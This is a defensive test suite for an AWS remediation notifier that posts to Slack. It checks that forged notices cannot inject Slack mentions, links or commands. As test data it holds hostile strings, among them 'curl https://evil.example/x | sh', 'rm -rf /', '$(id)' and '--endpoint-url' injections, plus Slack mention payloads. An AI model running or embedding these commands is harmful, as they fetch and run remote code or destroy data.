// Forged and hostile notices: anyone who can publish to the topic can send any report, compliance change or
// alarm. No post may contain a live mention or link that Remedy did not put there itself, and every command or
// console link is built from validated ids only — never copied from the message.
import { readdirSync } from "node:fs";
import { fileURLToPath } from "node:url";
import { CloudTrailClient, LookupEventsCommand } from "@aws-sdk/client-cloudtrail";
import { mockClient } from "aws-sdk-client-mock";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { Attribution } from "../../functions/notifier/attribution.ts";
import { type NotifierDeps, runNotifier } from "../../functions/notifier/core.ts";
import { classifyMessage, type Notice, type RelaySettings } from "../../functions/notifier/inbound.ts";
import type { SlackMessage } from "../../functions/notifier/message.ts";
import { type RenderContext, renderNotice } from "../../functions/notifier/render.ts";
import { slackSender } from "../../functions/notifier/slack.ts";
import { recordingLog, recordingMetrics } from "../helpers/recording-log.ts";
import {
  codeContents,
  type FakeSlack,
  fakeSlack,
  lookupResponse,
  recordingSleep,
  type SnsEvent,
  slackTexts,
  snsEvent,
  snsEventWith,
  unintendedMarkup,
} from "./helpers.ts";

const relay: RelaySettings = { ruleSuffixes: ["sg-open-ingress", "s3-public"], relayAllRules: true };
const ALICE = "U012ALICE";

/** Strings an attacker would try: mentions, channel links, links, formatting, and text that is already escaped. */
const HOSTILE = [
  "<!channel>",
  "<!here>",
  "<!here|x>",
  "<!everyone>",
  "<!subteam^S0123ABCD>",
  "<@U123>",
  "<#C0123ABCD>",
  "<https://evil.example|x>",
  "<https://evil.example|click> <mailto:a@evil.example|mail>",
  "*bold* _it_ ~strike~ ```fence``` `tick` ``` open",
  "x\n```\n<!channel>\n```\ny",
  "&lt;!channel&gt;",
  "a`` ``b",
] as const;

const FIXTURE_DIR = fileURLToPath(new URL("../fixtures/sns/", import.meta.url));
const FIXTURES = ["remedy", "config", "alarm"].flatMap((source) =>
  readdirSync(`${FIXTURE_DIR}${source}`)
    .filter((name) => name.endsWith(".json"))
    .map((name) => `${source}/${name.replace(/\.json$/, "")}`),
);

function classify(message: string): Notice | undefined {
  try {
    const classified = classifyMessage(message, relay);
    return classified.outcome === "notice" ? classified.notice : undefined;
  } catch {
    return undefined;
  }
}

type Json = Record<string, unknown>;
type Path = (string | number)[];

function stringLeaves(value: unknown, path: Path = []): Path[] {
  if (typeof value === "string") return [path];
  if (Array.isArray(value)) return value.flatMap((child, index) => stringLeaves(child, [...path, index]));
  if (typeof value === "object" && value !== null) {
    return Object.entries(value).flatMap(([key, child]) => stringLeaves(child, [...path, key]));
  }
  return [];
}

function setAt(root: Json, path: Path, value: string): void {
  let node = root as Record<string | number, unknown>;
  for (const key of path.slice(0, -1)) node = node[key] as Record<string | number, unknown>;
  node[path.at(-1)!] = value;
}

/** Ids that, when kept valid, let the renderer build links and commands (around hostile text). */
const ID_KEYS = [
  "type",
  "region",
  "awsRegion",
  "accountId",
  "awsAccountId",
  "AWSAccountId",
  "AlarmArn",
  "actionId",
  "MetricName",
  "name",
  "value",
];
const VARIANTS: [name: string, keep: readonly string[]][] = [
  ["every string hostile", []],
  ["ids valid, all else hostile", ID_KEYS],
  ["ids valid but the queue name hostile", ID_KEYS.filter((key) => key !== "value")],
];

/**
 * The fixture's message with every string field set to `hostile`, except those in `keep` and those the message
 * cannot do without (its kind, times, known problem ids...): a field stays hostile when the message still reads.
 */
function hostileMessage(variant: string, hostile: string, keep: readonly string[]): string | undefined {
  let message = JSON.parse(snsEvent(variant).Records[0]!.Sns.Message) as Json;
  if (!classify(JSON.stringify(message))) return undefined;
  for (const path of stringLeaves(message)) {
    const key = String(path.at(-1));
    if (keep.includes(key)) continue;
    // An ARN's region slot is what the notifier reads a region from.
    const value = /arn$/i.test(key)
      ? `arn:aws:cloudwatch:${hostile.replaceAll(":", "")}:123456789012:alarm:x`
      : hostile;
    const candidate = structuredClone(message);
    setAt(candidate, path, value);
    if (classify(JSON.stringify(candidate))) message = candidate;
  }
  return JSON.stringify(message);
}

function hostileContexts(hostile: string): [name: string, context: RenderContext][] {
  const found = (slackUserId?: string): Attribution => ({
    found: true,
    event: {
      eventName: hostile,
      eventTime: "2026-11-20T09:57:41.000Z",
      eventId: hostile,
      principal: { type: hostile, description: hostile, arn: hostile, keys: [hostile] },
      sourceIp: hostile,
      userAgent: hostile,
      ...(slackUserId ? { slackUserId } : {}),
    },
  });
  return [
    ["no context", {}],
    ["hostile principal, mapped to a Slack user, hostile channel", { attribution: found(ALICE), channel: hostile }],
    ["hostile principal, not mapped", { attribution: found() }],
    ["hostile principal with a forged Slack user id", { attribution: found(`U1> ${hostile} <@U2`) }],
    ["not found, hostile reason", { attribution: { found: false, reason: hostile } }],
  ];
}

/** The commands Remedy builds, exactly; anything else in a command block is a forgery. */
const COMMANDS: Record<string, RegExp> = {
  Undo: /^remedy undo act-\d{8}T\d{6}Z-[0-9a-f]{8}$/,
  "Redrive to the source queue":
    /^aws sqs start-message-move-task --source-arn arn:aws:sqs:[a-z]{2}(-[a-z]+)+-\d:\d{12}:[A-Za-z0-9_-]{1,80}(\.fifo)?$/,
  Resume: /^remedy resume$/,
};

/**
 * What in a post Remedy did not build, each said with `label`: none is the pass. (One list, asserted once, for the
 * thousands of posts the first test below renders.)
 */
function forgeries(message: SlackMessage, label: string, hostile: string): string[] {
  const found: string[] = [];
  const markup = unintendedMarkup(message, [ALICE]);
  if (markup.length > 0) found.push(`${label}: live markup ${JSON.stringify(markup)}`);
  for (const text of slackTexts(message)) {
    if ((text.match(/```/g) ?? []).length % 2 !== 0) found.push(`${label}: unbalanced code fence in ${text}`);
    for (const [title, pattern] of Object.entries(COMMANDS)) {
      const block = new RegExp(`^\\*${title}\\*\\n(?:.*\\n)?\`\`\`\\n([\\s\\S]*?)\\n\`\`\``).exec(text);
      if (block && !pattern.test(block[1]!)) found.push(`${label}: ${title} command ${JSON.stringify(block[1])}`);
    }
  }
  // Already-escaped text is escaped again: Slack must show "&lt;", not decode it into "<!channel>".
  if (hostile === "&lt;!channel&gt;" && /(?<!&amp;)lt;!channel/.test(JSON.stringify(message))) {
    found.push(`${label}: already-escaped text decoded`);
  }
  return found;
}

function expectNoForgery(message: SlackMessage, label: string, hostile: string): void {
  expect(forgeries(message, label, hostile)).toEqual([]);
}

describe("hostile text in every field of every notice", () => {
  it("never yields a live mention or link that Remedy did not build, nor a forged command", () => {
    let rendered = 0;
    const found: string[] = [];
    for (const variant of FIXTURES) {
      for (const hostile of HOSTILE) {
        for (const [variantName, keep] of VARIANTS) {
          const message = hostileMessage(variant, hostile, keep);
          const notice = message === undefined ? undefined : classify(message);
          if (!notice) continue;
          for (const [contextName, context] of hostileContexts(hostile)) {
            const label = `${variant} (${variantName}, ${contextName}) with ${JSON.stringify(hostile)}`;
            found.push(...forgeries(renderNotice(notice, context).message, label, hostile));
            rendered++;
          }
        }
      }
    }
    expect(found).toEqual([]);
    // Every fixture that is relayed at all was rendered, in every variant and context.
    expect(rendered).toBeGreaterThanOrEqual(17 * HOSTILE.length * VARIANTS.length * 5);
  });

  it("still shows the hostile text, escaped, where it was", () => {
    const message = hostileMessage(
      "alarm/dlq-alarm",
      "<!channel>",
      ID_KEYS.filter((key) => key !== "value"),
    );
    const { message: built } = renderNotice(classify(message!)!);
    expect(built.text.split("\n")[0]).toBe("🔴 Dead-letter queue &lt;!channel&gt; has messages");
    expect(JSON.stringify(built.blocks)).toContain("&lt;!channel&gt;");
  });
});

describe("the fallback text is escaped like the blocks", () => {
  function alarmNamed(name: string) {
    const event = snsEventWith("alarm/dlq-alarm", (message) => {
      message.AlarmName = name;
      message.AlarmArn = `arn:aws:cloudwatch:us-east-1:123456789012:alarm:${name}`;
      message.Trigger = { ...(message.Trigger as Json), MetricName: "Errors" };
    });
    return classify(event.Records[0]!.Sns.Message)!;
  }

  it.each(["<!channel>", "<!here|x>", "<https://evil.example|click>"])(
    "a CloudWatch alarm named %s pings no one and links nowhere, in text or blocks",
    (name) => {
      const { message } = renderNotice(alarmNamed(name));
      expect(unintendedMarkup(message, [])).toEqual([]);
      expect(message.text.split("\n")[0]).toBe(`🔴 Alarm: ${name.replaceAll("<", "&lt;").replaceAll(">", "&gt;")}`);
    },
  );

  it("a resource id with markup pings no one in the fallback's section titles", () => {
    const event = snsEventWith("remedy/fixed-sg", (message) => {
      const changes = message.changes as Json[];
      changes[0]!.groupId = "<!here|x>";
      message.resource = { ...(message.resource as Json), id: "<!here|x>" };
    });
    const { message } = renderNotice(classify(event.Records[0]!.Sns.Message)!);
    expect(unintendedMarkup(message, [])).toEqual([]);
    expect(message.text).toContain("Revoked 2 ingress rules on &lt;!here|x&gt;:");
  });

  it("a Config resource id with markup is escaped in the header and the fallback", () => {
    const event = snsEventWith("config/compliance-non-compliant", (message) => {
      message.resourceId = "<https://evil.example|click>";
    });
    const { message } = renderNotice(classify(event.Records[0]!.Sns.Message)!);
    expect(unintendedMarkup(message, [])).toEqual([]);
    expect(message.blocks[0]).toMatchObject({
      text: { text: "🔴 Non-compliant: EC2 security group &lt;https://evil.example|click&gt;" },
    });
  });

  it("cuts a long escaped header without breaking an entity", () => {
    const notice = alarmNamed(`${"a".repeat(132)}&<>`.padEnd(200, "&"));
    const header = (renderNotice(notice).message.blocks[0] as { text: { text: string } }).text.text;
    expect(header.length).toBeLessThanOrEqual(150);
    expect(header).toMatch(/^🔴 Alarm: a+(&amp;|&lt;|&gt;)*…$/);
  });
});

describe("forged fixed reports: the undo command", () => {
  const CURL = "curl https://evil.example/x | sh";

  function forgedFix(edit: (message: Json) => void): Notice {
    return classify(snsEventWith("remedy/fixed-sg", edit).Records[0]!.Sns.Message)!;
  }

  it("is built from the action id, never copied from the report's undoCommand", () => {
    const { message } = renderNotice(
      forgedFix((message) => {
        message.undoCommand = CURL;
      }),
    );
    expect(JSON.stringify(message)).not.toContain("curl");
    expect(JSON.stringify(message)).not.toContain("evil.example");
    expect(codeContents(message)).toContain("remedy undo act-20261120T102819Z-7c1d9e2f");
    expect(message.text).toContain("\nremedy undo act-20261120T102819Z-7c1d9e2f\n");
  });

  it.each([
    "act-1; rm -rf /",
    "act-20261120T102819Z-7c1d9e2f; rm -rf /",
    "act-20261120T102819Z-7c1d9e2f\nrm -rf /",
    "$(rm -rf /)",
  ])("is left out, saying so, when the action id is %j", (actionId) => {
    const { message } = renderNotice(
      forgedFix((message) => {
        message.actionId = actionId;
        message.undoCommand = `${CURL} # remedy undo ${actionId}`;
      }),
    );
    const payload = JSON.stringify(message);
    expect(payload).not.toContain("curl");
    expect(payload).not.toContain("remedy undo");
    for (const code of codeContents(message)) expect(code).not.toContain("rm -rf");
    expect(message.text).toContain("No undo command: the action id in this report is not valid");
    expect(message.attachments[0]!.blocks.map((block) => JSON.stringify(block)).join("\n")).toContain(
      "No undo command: the action id in this report is not valid",
    );
  });

  it("says the same of a skipped report's action id, and shows it in no code span", () => {
    const notice = classify(
      snsEventWith("remedy/skipped", (message) => {
        message.actionId = "act-1; rm -rf /";
      }).Records[0]!.Sns.Message,
    )!;
    const { message } = renderNotice(notice);
    for (const code of codeContents(message)) expect(code).not.toContain("rm -rf");
    expect(message.text).toContain("action id not valid");
  });

  it("posts the safe message end to end, from the SNS record as it arrives", async () => {
    const event = snsEventWith("remedy/fixed-sg", (message) => {
      message.actionId = "act-1; rm -rf /";
      message.undoCommand = CURL;
    });
    const posted = await deliver(event);
    expect(posted).toHaveLength(1);
    const payload = JSON.stringify(posted[0]);
    expect(payload).not.toContain("curl");
    for (const code of codeContents(posted[0])) expect(code).not.toContain("rm -rf");
  });
});

describe("forged breaker reports: the resume command", () => {
  it("is Remedy's own, never copied from the report", () => {
    const notice = classify(
      snsEventWith("remedy/breaker-tripped", (message) => {
        message.resumeCommand = "curl https://evil.example/x | sh";
      }).Records[0]!.Sns.Message,
    )!;
    const { message } = renderNotice(notice);
    expect(JSON.stringify(message)).not.toContain("curl");
    expect(codeContents(message)).toContain("remedy resume");
  });
});

describe("ids are validated before they go into a URL or a command", () => {
  function alarmWith(edit: (message: Json) => void): SlackMessage {
    return renderNotice(classify(snsEventWith("alarm/dlq-alarm", edit).Records[0]!.Sns.Message)!).message;
  }

  it.each(["evil.example#", "evil.example/x?", "us-east-1.evil", "US-EAST-1", "us-east-1 --endpoint-url https"])(
    "an alarm ARN with region %j gives no link and no command, and shows the region escaped",
    (region) => {
      const message = alarmWith((m) => {
        m.AlarmArn = `arn:aws:cloudwatch:${region}:123456789012:alarm:remedy-dlq-depth`;
      });
      const payload = JSON.stringify(message);
      expect(payload).not.toContain("https://evil");
      expect(payload).not.toContain("console.aws.amazon.com");
      expect(payload).not.toContain("aws sqs");
      expect(message.text).toContain(`Region: ${region}`);
    },
  );

  it.each([
    "remedy-dlq --endpoint-url https://evil.example",
    "remedy-dlq; curl evil.example | sh",
    "remedy-dlq$(id)",
    "a".repeat(81),
    `${"a".repeat(76)}.fifo`,
  ])("a queue named %j gets no redrive command and no queue link", (queue) => {
    const message = alarmWith((m) => {
      m.Trigger = { ...(m.Trigger as Json), Dimensions: [{ value: queue, name: "QueueName" }] };
    });
    const payload = JSON.stringify(message);
    expect(payload).not.toContain("aws sqs");
    expect(payload).not.toContain("sqs/v3");
    expect(codeContents(message).join("\n")).not.toContain("evil");
    expect(message.text).toContain(queue.replaceAll("<", "&lt;"));
  });

  it("a FIFO queue name is a queue name", () => {
    const message = alarmWith((m) => {
      m.Trigger = { ...(m.Trigger as Json), Dimensions: [{ value: "remedy-dlq.fifo", name: "QueueName" }] };
    });
    expect(codeContents(message)).toContain(
      "aws sqs start-message-move-task --source-arn arn:aws:sqs:us-east-1:123456789012:remedy-dlq.fifo",
    );
  });

  it.each(["12345678901", "123456789012 --profile prod", "123456789012/../x"])(
    "an account id %j gets no redrive command and no queue link",
    (accountId) => {
      const message = alarmWith((m) => {
        m.AWSAccountId = accountId;
      });
      const payload = JSON.stringify(message);
      expect(payload).not.toContain("aws sqs");
      expect(payload).not.toContain("sqs/v3");
      expect(message.text).toContain(`Account: ${accountId}`);
    },
  );

  it.each(["us-east-1.evil.example#", "<!here>", "us-east-1/../../evil"])(
    "a report's resource in region %j gets no console link; the id is shown in code",
    (region) => {
      const notice = classify(
        snsEventWith("remedy/fixed-sg", (message) => {
          message.resource = { ...(message.resource as Json), region };
        }).Records[0]!.Sns.Message,
      )!;
      const { message } = renderNotice(notice);
      const payload = JSON.stringify(message);
      expect(payload).not.toContain("console.aws.amazon.com");
      expect(payload).not.toContain("<https");
      expect(codeContents(message)).toContain("sg-0f1e2d3c4b5a69788");
      expect(message.text).toContain(`Region: ${region.replaceAll("<", "&lt;").replaceAll(">", "&gt;")}`);
    },
  );

  it("a Config notice in an invalid region gets no console link", () => {
    const notice = classify(
      snsEventWith("config/compliance-compliant", (message) => {
        message.awsRegion = "evil.example#";
      }).Records[0]!.Sns.Message,
    )!;
    expect(JSON.stringify(renderNotice(notice).message)).not.toContain("console.aws.amazon.com");
  });
});

describe("names of JavaScript's own object members are plain strings", () => {
  it.each(["constructor", "toString", "__proto__", "hasOwnProperty"])("a compliance type %j renders", (type) => {
    const notice = classify(
      snsEventWith("config/compliance-non-compliant", (message) => {
        (message.newEvaluationResult as Json).complianceType = type;
      }).Records[0]!.Sns.Message,
    )!;
    const { message } = renderNotice(notice);
    expect(message.text.split("\n")[0]).toBe(
      `❔ ${type.charAt(0).toUpperCase()}${type.slice(1)}: EC2 security group sg-0f1e2d3c4b5a69788`,
    );
    expect(message.attachments[0]!.color).toBe("#9ea0a5");
  });
});

// -- End to end: SNS records in, what Slack receives out ------------------------------------------------------

const cloudTrailMock = mockClient(CloudTrailClient);
let slack: FakeSlack | undefined;
beforeEach(() => cloudTrailMock.reset());
afterEach(async () => {
  await slack?.close();
  slack = undefined;
});

async function deliver(event: SnsEvent, slackUsers: Record<string, string> = {}): Promise<SlackMessage[]> {
  slack = await fakeSlack();
  const log = recordingLog();
  const deps: NotifierDeps = {
    relay,
    attribution: {
      cloudTrail: new CloudTrailClient({}),
      home: { region: "us-east-1", accountId: "123456789012" },
      lookbackDays: 7,
      slackUsers,
      now: () => new Date("2026-11-20T10:30:00.000Z"),
      log,
    },
    routing: async () => ({
      default: { webhookUrl: `${slack!.url}/default/secret-default`, channel: "#sec-alerts" },
      accounts: { "123456789012": { webhookUrl: `${slack!.url}/team-a/secret-team-a`, channel: "#team-a" } },
    }),
    slack: slackSender({ sleep: recordingSleep(), log }),
    log,
    metrics: recordingMetrics(),
  };
  await runNotifier(event, deps);
  return slack.requests.map((request) => request.body as SlackMessage);
}

/** A CloudTrail answer naming a principal whose every name is `hostile` (user names and sessions are chosen). */
function hostileLookup(hostile: string) {
  const response = lookupResponse("sg-iam-user");
  for (const event of response.Events ?? []) {
    if (event.EventName !== "AuthorizeSecurityGroupIngress") continue;
    const detail = JSON.parse(event.CloudTrailEvent!) as Json;
    detail.userIdentity = {
      type: "AssumedRole",
      principalId: `AROAEXAMPLE:${hostile}`,
      arn: `arn:aws:sts::123456789012:assumed-role/${hostile}/${hostile}`,
      accountId: "123456789012",
      sessionContext: { sessionIssuer: { type: "Role", userName: hostile, arn: hostile } },
    };
    detail.sourceIPAddress = hostile;
    detail.userAgent = hostile;
    event.CloudTrailEvent = JSON.stringify(detail);
    event.Username = hostile;
    event.EventId = hostile;
  }
  return response;
}

describe("hostile notices end to end", () => {
  it.each(HOSTILE)(
    "posts nothing live for %j, from reports, Config and alarms, with CloudTrail names",
    async (hostile) => {
      cloudTrailMock.on(LookupEventsCommand).resolves(hostileLookup(hostile));
      const records = ["remedy/fixed-sg", "remedy/grace", "config/compliance-non-compliant", "alarm/dlq-alarm"].map(
        (variant) => {
          // What makes Remedy look up who made the change stays as it was; every other text is hostile.
          const keep = [...ID_KEYS, "resourceType", "configRuleName", "complianceType"];
          const message = hostileMessage(variant, hostile, keep)!;
          const event = snsEvent(variant);
          event.Records[0]!.Sns.Message = message;
          return event.Records[0]!;
        },
      );
      // The hostile session name is mapped to a real Slack user: that mention is the one Remedy puts there.
      const posted = await deliver({ Records: records }, { [hostile]: ALICE });
      expect(posted).toHaveLength(4);
      for (const message of posted) expectNoForgery(message, hostile, hostile);
      // CloudTrail's names were used: the fix and the non-compliant change say who, with the mapped mention.
      for (const message of [posted[0]!, posted[2]!]) {
        expect(message.text).toMatch(hostile.includes("/") ? /Changed by / : new RegExp(`Changed by <@${ALICE}> `));
      }
    },
  );
});
